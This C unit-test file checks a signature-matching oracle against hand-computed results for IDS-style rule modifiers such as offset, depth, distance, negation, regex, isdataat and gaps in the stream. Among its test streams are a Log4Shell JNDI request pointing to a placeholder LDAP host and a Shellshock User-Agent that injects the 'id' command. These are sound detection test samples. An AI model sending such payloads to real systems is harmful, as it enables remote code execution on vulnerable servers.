/*
 * The oracle itself against hand-computed results: the examples of
 * docs/rule-format.md, the cases of tests/unit/test_language.c and the corner
 * cases the differential test relies on.  No engine here.
 *
 * A rule is written compactly: conditions separated by ';', each a pattern
 * followed by ",key=value" modifiers.  A pattern is content bytes,
 * /regex/flags, or @N for isdataat N.  Keys: offset depth distance within
 * (numbers), nocase, negate, endswith and rel (isdataat relative; no value).  In the stream, each '~' is a gap of `gap` bytes.
 */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "oracle.h"

typedef struct ocase {
    const char *what;
    const char *rule;
    const char *data;
    uint64_t gap;
    int64_t expect; /* -1: does not fire */
} ocase;

static const ocase cases[] = {
    /* content, nocase, offset, depth */
    {"content", "abc", "xxabcxx", 0, 5},
    {"content absent", "abc", "xxabxcx", 0, -1},
    {"content is case-sensitive", "ABC", "xabc", 0, -1},
    {"nocase", "ABC,nocase", "xabc", 0, 4},
    {"docs: ${jndi: at [8,15)", "${jndi:", "GET /?q=${jndi:ldap://198.51.100.7/a} HTTP/1.1\r\n", 0, 15},
    {"offset skips earlier match", "abc,offset=2", "abcabc", 0, 6},
    {"offset start exactly at N", "abc,offset=2", "xxabc", 0, 5},
    {"offset too early", "abc,offset=2", "xabcx", 0, -1},
    {"depth end exactly at depth", "abc,depth=3", "abcx", 0, 3},
    {"depth exceeded", "abc,depth=3", "xabc", 0, -1},
    {"offset+depth boundary", "abc,offset=1,depth=3", "xabc", 0, 4},
    {"offset+depth exceeded", "abc,offset=1,depth=3", "xxabc", 0, -1},
    /* relative conditions; the docs' table for distance 2 within 5 */
    {"docs: abc..xyz", "abc;xyz,distance=2,within=5", "abc..xyz", 0, 8},
    {"docs: abc....xyz", "abc;xyz,distance=2,within=5", "abc....xyz", 0, 10},
    {"docs: abc.....xyz", "abc;xyz,distance=2,within=5", "abc.....xyz", 0, -1},
    {"docs: abcxyz", "abc;xyz,distance=2,within=5", "abcxyz", 0, -1},
    {"distance too close", "ab;cd,distance=2", "abxcd", 0, -1},
    {"within", "ab;cd,within=4", "abxxcd", 0, 6},
    {"within exceeded", "ab;cd,within=4", "abxxxcd", 0, -1},
    {"within alone means distance 0", "bc;ab,within=3", "abc", 0, -1},
    {"relative before earlier", "cd;ab,distance=0", "abcd", 0, -1},
    {"negative distance overlap", "bcd;ab,distance=-4", "abcd", 0, 4},
    {"negative distance too far", "bcd;ab,distance=-3", "abcd", 0, -1},
    {"docs: shellshock colon", "() {;:,distance=-6,within=2", "User-Agent: () { :; }; id", 0, 16},
    {"negative distance, later partner", "xyz;x,distance=-3,within=1", "xyz", 0, 3},
    {"partner found by looking back completes late", "b;a,distance=-2", "ab", 0, 2},
    {"existential: later first match", "a;b,within=2", "axxab", 0, 5},
    {"same pattern twice", "a;a,distance=0", "xa", 0, -1},
    {"same pattern twice, two hits", "a;a,distance=0", "xaa", 0, 3},
    {"three-element chain", "GET;jndi,distance=1;ldap,within=8", "GET /${jndi:ldap://x}", 0, 16},
    {"three-element chain broken", "GET;jndi,distance=1;ldap,within=4", "GET /${jndi:ldap://x}", 0, -1},
    {"relative with offset too", "ab;cd,distance=0,offset=5", "abcdabcd", 0, 8},
    /* independent chains */
    {"chains in any order", "b;a", "ab", 0, 2},
    {"fires when the last chain completes", "a;zz", "a---zz-a", 0, 6},
    {"each chain its earliest", "a;b,within=1;c", "ab-c-ab", 0, 4},
    /* negation */
    {"negate absent", "GET;evil,negate", "GET /", 0, 5},
    {"negate present", "GET;evil,negate", "GET evil", 0, -1},
    {"negate present before", "GET;evil,negate", "evil GET", 0, -1},
    {"negate with depth", "GET;X,depth=4,negate", "GET abc", 0, 4},
    {"negate with depth killed", "GET;X,depth=4,negate", "GETX", 0, -1},
    {"negate with depth, outside", "GET;X,depth=4,negate", "GET X", 0, 4},
    {"negate: a match crossing the window end does not count", "GET;ab,depth=4,negate", "GETab", 0, 4},
    {"negate with offset", "X,offset=2,negate", "XX", 0, 2},
    {"negate with offset killed", "X,offset=2,negate", "aaX", 0, -1},
    {"negated only: fires at end", "zz,negate", "abcdef", 0, 6},
    {"negated only, empty stream", "zz,negate", "", 0, 0},
    {"docs: negation window [0,512], long stream", "a;z,depth=512,negate", NULL, 0, 512},
    {"relative negate within", "GET;X,within=3,negate", "GET ab", 0, 6},
    {"relative negate within killed", "GET;X,within=3,negate", "GETaXb", 0, -1},
    {"relative negate, stream ends early", "GET;X,within=3,negate", "GET a", 0, 5},
    {"relative negate, second candidate", "A;B,within=2,negate", "ABxAxx", 0, 6},
    {"relative negate open window", "GET;Y,distance=0,negate", "GETabc", 0, 6},
    {"relative negate open window killed", "GET;Y,distance=0,negate", "GETY", 0, -1},
    {"relative negate open: latest candidate wins", "G;Y,distance=0,negate", "GYG", 0, 3},
    {"relative negate, negative distance", "abc;x,distance=-3,within=3,negate", "zabcz", 0, 4},
    {"relative negate, negative distance killed", "abc;b,distance=-3,within=3,negate", "zabcz", 0, -1},
    {"relative negate, window clamped at 0", "d;cd,distance=-10,within=10,negate", "cd", 0, -1},
    {"d not preceded by c", "d;cd,distance=-2,within=2,negate", "cd", 0, -1},
    {"d not preceded by c, clean", "d;cd,distance=-2,within=2,negate", "xd", 0, 2},
    {"negation window already over when E appears", "b;a,distance=-2;b,within=1,negate", "ab", 0, -1},
    {"negation window over when E appears, clean", "b;a,distance=-2;c,within=1,negate", "ab", 0, 2},
    {"relative negation with depth: window stays relative", "ab;x,within=3,depth=2,negate", "abxx", 0, 4},
    /* regex */
    {"regex", "/a[0-9]+b/", "xxa123b", 0, 7},
    {"regex caseless flag", "/ABC/i", "abc", 0, 3},
    {"regex case-sensitive", "/ABC/", "abc", 0, -1},
    {"regex dotall flag", "/a.b/s", "a\nb", 0, 3},
    {"regex dot without s", "/a.b/", "a\nb", 0, -1},
    {"regex dot takes \\r", "/a.b/", "a\rb", 0, 3},
    {"regex extended flag", "/a b c/x", "abc", 0, 3},
    {"regex with offset", "/ab+/,offset=2", "abbxab", 0, 6},
    {"regex offset: a later start of the same end", "/b+a/,offset=1", "bbba", 0, 4},
    {"regex offset: no start late enough", "/b+a/,offset=3", "bbba", 0, -1},
    {"regex with depth: shortest end", "/ab+/,depth=3", "abbb", 0, 2},
    {"regex then relative content: every end", "/a[0-9]+/;z,within=2", "a12xz", 0, 5},
    {"regex negated with depth", "a;/b+c/,depth=3,negate", "abc", 0, -1},
    {"regex negated with depth, ends too late", "a;/b+c/,depth=3,negate", "abbc", 0, 3},
    {"fires once, at the first", "a", "aaaa", 0, 1},
    /* gaps ('~' is gap bytes) */
    {"no match across a gap", "abc", "xab~cx", 10, -1},
    {"offsets count the gap", "abc", "xy~abc", 10, 15},
    {"absolute conditions on both sides", "ab;cd", "ab~cd", 10, 14},
    {"relative chain cannot span a gap", "ab;cd,distance=0", "ab~cd", 10, -1},
    {"relative chain after the gap", "ab;cd,distance=0", "ab~abcd", 10, 16},
    {"negation window overlapping a gap", "GET;X,negate", "GET~abc", 10, -1},
    {"negation window before a gap", "GET;X,depth=5,negate", "GET ab~c", 10, 5},
    {"relative negation across a gap", "GET;X,within=8,negate", "GET~aaaaaaaaaa", 10, -1},
    {"relative negation after a gap", "GET;X,within=3,negate", "a~GETaaaa", 10, 17},
    {"depth counts lost bytes", "abc,depth=12", "x~abc", 10, -1},
    {"gap at the start", "ab", "~ab", 5, 7},
    {"gap at the end: open negation undecidable", "ab;X,negate", "ab~", 5, -1},
    {"gap at the end: closed negation before it", "ab;X,depth=2,negate", "ab~", 5, 2},
    {"relative open negation, window after a final gap", "ab;d,distance=1,negate", "ab~", 1, -1},
    {"relative negation window wholly after a gap", "ab;d,distance=12,within=2,negate", "ab~xxxxx", 10, -1},
    {"relative negation window wholly before E's segment", "ab;d,distance=-8,within=2,negate",
     "xxxxx~abxx", 1, -1},
    {"same, without the gap", "ab;d,distance=-8,within=2,negate", "xxxxxxabxx", 0, 8},
    {"relative negation past a stream without gap", "ab;d,distance=12,negate", "ab", 0, 2},
    {"chain complete before a gap stays complete", "ab;cd,distance=0;zz,negate,depth=4", "abcd~xx", 3, 4},
    /* isdataat and endswith */
    {"isdataat: byte 9 exists", "@9", "0123456789", 0, 10},
    {"isdataat: 9 bytes only", "@9", "012345678", 0, -1},
    {"isdataat negated: stream shorter", "01;@9,negate", "012345678", 0, 9},
    {"isdataat negated: byte there", "01;@9,negate", "0123456789", 0, -1},
    {"isdataat relative", "AB;@2,rel", "xxAB123", 0, 7},
    {"isdataat relative: too short", "AB;@2,rel", "xxAB12", 0, -1},
    {"isdataat relative: the earliest E", "AB;@2,rel", "AB1AB12", 0, 5},
    {"isdataat relative negated", "AB;@2,rel,negate", "xxAB12", 0, 6},
    {"isdataat relative negated: byte there", "AB;@2,rel,negate", "xxAB123", 0, -1},
    {"isdataat relative negated: a later E", "AB;@2,rel,negate", "AB1234AB1", 0, 9},
    {"isdataat: byte lost in a gap", "@3", "ab~cd", 2, -1},
    {"isdataat: byte after a gap", "@4", "ab~cd", 2, 5},
    {"isdataat negated: byte lost in a gap", "@3,negate", "ab~cd", 2, -1},
    {"isdataat negated: past the end after a gap", "@9,negate", "ab~cd", 2, 6},
    {"isdataat relative: byte in a gap", "ab;@1,rel", "ab~cd", 2, -1},
    {"isdataat relative negated: gap after E", "ab;@0,rel,negate", "ab~", 2, -1},
    {"endswith", "END,endswith", "xxENDyyEND", 0, 10},
    {"endswith: one byte more", "END,endswith", "xxENDyyEND!", 0, -1},
    {"endswith before a final gap", "END,endswith", "xEND~", 3, -1},
    {"endswith on a relative content", "a;b,distance=0,endswith", "abab", 0, 4},
    {"endswith on a regex", "/b+/,endswith", "abbab", 0, 5},
};

/* ------------------------------------------------------------ parsing */

typedef struct parsed {
    orc_cond c[8];
    char pat[8][64];
    char flags[8][8];
    size_t n;
} parsed;

static void parse_rule(const char *text, parsed *p)
{
    memset(p, 0, sizeof(*p));
    char buf[512];
    snprintf(buf, sizeof(buf), "%s", text);
    char *save1 = NULL;
    for (char *cond = strtok_r(buf, ";", &save1); cond; cond = strtok_r(NULL, ";", &save1)) {
        ck_assert_uint_lt(p->n, 8);
        orc_cond *c = &p->c[p->n];
        char *save2 = NULL;
        char *pat = strtok_r(cond, ",", &save2);
        ck_assert_ptr_nonnull(pat);
        if (pat[0] == '/' && strrchr(pat, '/') != pat) {
            char *end = strrchr(pat, '/');
            c->is_regex = 1;
            snprintf(p->flags[p->n], sizeof(p->flags[0]), "%s", end + 1);
            *end = '\0';
            pat++;
        }
        if (pat[0] == '@') {
            c->is_dataat = 1;
            c->dataat = strtoll(pat + 1, NULL, 10);
        }
        snprintf(p->pat[p->n], sizeof(p->pat[0]), "%s", pat);
        c->pattern = p->pat[p->n];
        c->len = strlen(pat);
        c->flags = p->flags[p->n][0] ? p->flags[p->n] : NULL;
        for (char *mod = strtok_r(NULL, ",", &save2); mod; mod = strtok_r(NULL, ",", &save2)) {
            char *eq = strchr(mod, '=');
            long long v = eq ? strtoll(eq + 1, NULL, 10) : 0;
            if (eq)
                *eq = '\0';
            if (!strcmp(mod, "nocase"))
                c->nocase = 1;
            else if (!strcmp(mod, "negate"))
                c->negate = 1;
            else if (!strcmp(mod, "endswith"))
                c->endswith = 1;
            else if (!strcmp(mod, "rel"))
                c->has_distance = 1, c->distance = c->dataat;
            else if (!strcmp(mod, "offset"))
                c->has_offset = 1, c->offset = v;
            else if (!strcmp(mod, "depth"))
                c->has_depth = 1, c->depth = v;
            else if (!strcmp(mod, "distance"))
                c->has_distance = 1, c->distance = v;
            else if (!strcmp(mod, "within"))
                c->has_within = 1, c->within = v;
            else
                ck_abort_msg("bad modifier '%s' in '%s'", mod, text);
        }
        p->n++;
    }
}

static size_t parse_stream(const char *data, uint64_t gap, orc_segment *segs, size_t max)
{
    size_t n = 0;
    const char *p = data;
    for (;;) {
        ck_assert_uint_lt(n, max);
        const char *tilde = strchr(p, '~');
        size_t len = tilde ? (size_t)(tilde - p) : strlen(p);
        segs[n++] = (orc_segment){(const uint8_t *)p, len, tilde ? gap : 0};
        if (!tilde)
            return n;
        p = tilde + 1;
    }
}

START_TEST(test_case)
{
    const ocase *t = &cases[_i];
    parsed p;
    parse_rule(t->rule, &p);
    char big[600];
    const char *data = t->data;
    if (!data) { /* the docs' example: positive part at 40, 600 bytes */
        memset(big, '-', sizeof(big) - 1);
        big[sizeof(big) - 1] = '\0';
        big[39] = 'a';
        data = big;
    }
    orc_segment segs[16];
    size_t n = parse_stream(data, t->gap, segs, 16);
    orc_result r;
    char err[256];
    ck_assert_msg(orc_eval(p.c, p.n, segs, n, &r, err, sizeof(err)) == 0, "%s: %s", t->what, err);
    int64_t got = r.fires ? r.offset : -1;
    ck_assert_msg(got == t->expect, "%s: expected %lld, got %lld", t->what, (long long)t->expect,
                  (long long)got);
}
END_TEST

/* The docs' 300-byte variant: the negation window reaches past the end. */
START_TEST(test_window_past_end)
{
    parsed p;
    parse_rule("a;z,depth=512,negate", &p);
    uint8_t data[300];
    memset(data, '-', sizeof(data));
    data[39] = 'a';
    orc_segment seg = {data, sizeof(data), 0};
    orc_result r;
    char err[256];
    ck_assert_int_eq(orc_eval(p.c, p.n, &seg, 1, &r, err, sizeof(err)), 0);
    ck_assert_int_eq(r.fires, 1);
    ck_assert_int_eq(r.offset, 300);
}
END_TEST

START_TEST(test_nul_bytes)
{
    orc_cond c = {.pattern = "\x00\xff", .len = 2};
    orc_cond re = {.is_regex = 1, .pattern = "\\x00\\xff+", .len = 9};
    const uint8_t data[] = {'a', 0x00, 0xff, 0xff};
    orc_segment seg = {data, sizeof(data), 0};
    orc_result r;
    char err[256];
    ck_assert_int_eq(orc_eval(&c, 1, &seg, 1, &r, err, sizeof(err)), 0);
    ck_assert_int_eq(r.offset, 3);
    ck_assert_int_eq(orc_eval(&re, 1, &seg, 1, &r, err, sizeof(err)), 0);
    ck_assert_int_eq(r.offset, 3);
}
END_TEST

START_TEST(test_bad_regex)
{
    orc_cond c = {.is_regex = 1, .pattern = "a(b", .len = 3};
    orc_segment seg = {(const uint8_t *)"ab", 2, 0};
    orc_result r;
    char err[256];
    ck_assert_int_eq(orc_eval(&c, 1, &seg, 1, &r, err, sizeof(err)), -1);
    ck_assert(err[0] != '\0');
}
END_TEST

START_TEST(test_invalid_rule)
{
    orc_cond c[2] = {{.pattern = "a", .len = 1, .negate = 1},
                     {.pattern = "b", .len = 1, .has_distance = 1}};
    orc_segment seg = {(const uint8_t *)"ab", 2, 0};
    orc_result r;
    char err[256];
    ck_assert_int_eq(orc_eval(c, 2, &seg, 1, &r, err, sizeof(err)), -1);
    ck_assert_int_eq(orc_eval(&c[1], 1, &seg, 1, &r, err, sizeof(err)), -1);
}
END_TEST

/* Ends of the matches in a condition's absolute window, across a gap. */
START_TEST(test_match_ends)
{
    orc_segment segs[2] = {{(const uint8_t *)"abxab", 5, 3}, {(const uint8_t *)"ABab", 4, 0}};
    orc_cond c = {.pattern = "ab", .len = 2, .nocase = 1};
    int64_t *ends;
    size_t n;
    char err[256];
    ck_assert_int_eq(orc_match_ends(&c, segs, 2, &ends, &n, err, sizeof(err)), 0);
    ck_assert_uint_eq(n, 4);
    ck_assert_int_eq(ends[0], 2);
    ck_assert_int_eq(ends[1], 5);
    ck_assert_int_eq(ends[2], 10);
    ck_assert_int_eq(ends[3], 12);
    free(ends);
    c.has_offset = 1, c.offset = 3, c.has_depth = 1, c.depth = 7; /* [3, 10) */
    ck_assert_int_eq(orc_match_ends(&c, segs, 2, &ends, &n, err, sizeof(err)), 0);
    ck_assert_uint_eq(n, 2);
    ck_assert_int_eq(ends[0], 5);
    ck_assert_int_eq(ends[1], 10);
    free(ends);
    c.negate = 1; /* a negation has no matches to check at */
    ck_assert_int_eq(orc_match_ends(&c, segs, 2, &ends, &n, err, sizeof(err)), 0);
    ck_assert_uint_eq(n, 0);
    ck_assert_ptr_null(ends);
}
END_TEST

/* byte_test spans: the n-byte runs whose value passes, read in either order. */
START_TEST(test_bytetest_spans)
{
    orc_segment seg = {(const uint8_t *)"\x00\x05\x01\x00", 4, 0};
    orc_cond c = {.is_bytetest = 1, .bt_bytes = 2, .bt_op = ORC_BT_GE, .bt_value = 5};
    int64_t *ends;
    size_t n;
    char err[256];
    ck_assert_int_eq(orc_match_ends(&c, &seg, 1, &ends, &n, err, sizeof(err)), 0);
    ck_assert_uint_eq(n, 3); /* 0x0005 ends at 2, 0x0501 at 3, 0x0100 at 4 */
    free(ends);
    c.bt_op = ORC_BT_EQ;
    c.bt_little = 1;
    c.bt_value = 0x0105; /* 05 01 read little endian */
    orc_result r;
    ck_assert_int_eq(orc_eval(&c, 1, &seg, 1, &r, err, sizeof(err)), 0);
    ck_assert_int_eq(r.fires, 1);
    ck_assert_int_eq(r.offset, 3);
    c.bt_op = ORC_BT_AND;
    c.bt_value = 0x0200;
    ck_assert_int_eq(orc_eval(&c, 1, &seg, 1, &r, err, sizeof(err)), 0);
    ck_assert_int_eq(r.fires, 0);
}
END_TEST

int main(void)
{
    Suite *s = suite_create("oracle");
    TCase *tc = tcase_create("cases");
    tcase_add_loop_test(tc, test_case, 0, (int)(sizeof(cases) / sizeof(cases[0])));
    tcase_add_test(tc, test_window_past_end);
    tcase_add_test(tc, test_nul_bytes);
    tcase_add_test(tc, test_bad_regex);
    tcase_add_test(tc, test_invalid_rule);
    tcase_add_test(tc, test_match_ends);
    tcase_add_test(tc, test_bytetest_spans);
    suite_add_tcase(s, tc);
    SRunner *sr = srunner_create(s);
    srunner_run_all(sr, CK_NORMAL);
    int failed = srunner_ntests_failed(sr);
    srunner_free(sr);
    return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
